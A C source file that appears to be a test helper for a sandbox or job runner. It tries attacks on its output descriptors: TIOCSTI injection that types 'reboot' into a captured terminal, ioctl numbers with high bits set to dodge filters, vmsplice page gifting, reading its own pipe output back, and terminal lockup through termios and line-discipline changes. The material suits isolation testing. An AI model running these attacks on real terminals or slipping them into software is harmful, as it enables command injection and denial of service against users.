// What a job can do to the descriptors its output goes to, one attack chosen by argv[1]. Facts go
// to stdout, or to stderr where stdout is the target.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <termios.h>
#include <unistd.h>

static void say(const char *what, long result) {
  printf("%s %s\n", what, result < 0 ? strerrorname_np(errno) : "done");
}

/// ioctl(2) of libc cuts nothing, but its type invites to: the register is set by hand.
static void request(int fd, const char *what, unsigned long number) {
  char byte = 'x';
  say(what, syscall(SYS_ioctl, (long)fd, number, &byte));
}

/// One byte a packet: a reader gets one byte a read.
static void packets(long count) {
  fcntl(1, F_SETFL, O_WRONLY | O_DIRECT);
  for (long i = 0; i < count && write(1, "x", 1) == 1; ++i) {
  }
}

static void refill(long size) {
  fcntl(1, F_SETPIPE_SZ, 1 << 20);
  char *bytes = calloc(1, (size_t)size);
  memset(bytes, 'x', (size_t)size);
  for (long done = 0; done < size;) {
    const ssize_t wrote = write(1, bytes + done, (size_t)(size - done));
    if (wrote <= 0) break;
    done += wrote;
  }
}

/// Pages of its own memory in the pipe, changed after they went in.
static void gift(void) {
  char *page = aligned_alloc(4096, 4096);
  memset(page, 'a', 4096);
  struct iovec part = {page, 4096};
  const ssize_t put = vmsplice(1, &part, 1, SPLICE_F_GIFT);
  memset(page, 'b', 4096);
  fprintf(stderr, "%zd\n", put);
}

/// Takes its own output out of the pipe again.
static void steal(long count) {
  char bytes[4096];
  const int back = open("/proc/self/fd/1", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
  memset(bytes, 'x', sizeof bytes);
  for (long i = 0; i < count && write(1, bytes, sizeof bytes) > 0; ++i)
    while (read(back, bytes, sizeof bytes) > 0) {
    }
}

static void terminal(void) {
  // A session of its own without a terminal takes this one.
  say("TIOCSCTTY", ioctl(0, TIOCSCTTY, 0));
  for (const char *letter = "reboot\n"; *letter; ++letter)
    if (ioctl(0, TIOCSTI, letter) < 0) {
      say("TIOCSTI", -1);
      return;
    }
  say("TIOCSTI", 0);
}

static void hold_terminal(void) {
  struct termios mode;
  const int discipline = 21;
  tcgetattr(0, &mode);
  mode.c_lflag = 0;
  tcsetattr(0, TCSANOW, &mode);
  for (unsigned short i = 1; i < 1000; ++i) {
    struct winsize size = {i, i, 0, 0};
    ioctl(0, TIOCSWINSZ, &size);
  }
  ioctl(0, TIOCSETD, &discipline);
  tcflow(0, TCOOFF);
  say("held", 0);
}

int main(int argc, char **argv) {
  const char *name = argc > 1 ? argv[1] : "";
  const long number = argc > 2 ? atol(argv[2]) : 0;
  if (!strcmp(name, "sti")) request(0, "TIOCSTI", TIOCSTI);
  if (!strcmp(name, "sti-high")) request(0, "TIOCSTI", 0x100000000UL + TIOCSTI);
  if (!strcmp(name, "linux")) request(0, "TIOCLINUX", TIOCLINUX);
  if (!strcmp(name, "linux-high")) request(0, "TIOCLINUX", 0xffffffff00000000UL + TIOCLINUX);
  if (!strcmp(name, "packets")) packets(number);
  if (!strcmp(name, "refill")) refill(number);
  if (!strcmp(name, "gift")) gift();
  if (!strcmp(name, "steal")) steal(number);
  if (!strcmp(name, "terminal")) terminal();
  if (!strcmp(name, "hold-terminal")) hold_terminal();
  return 0;
}
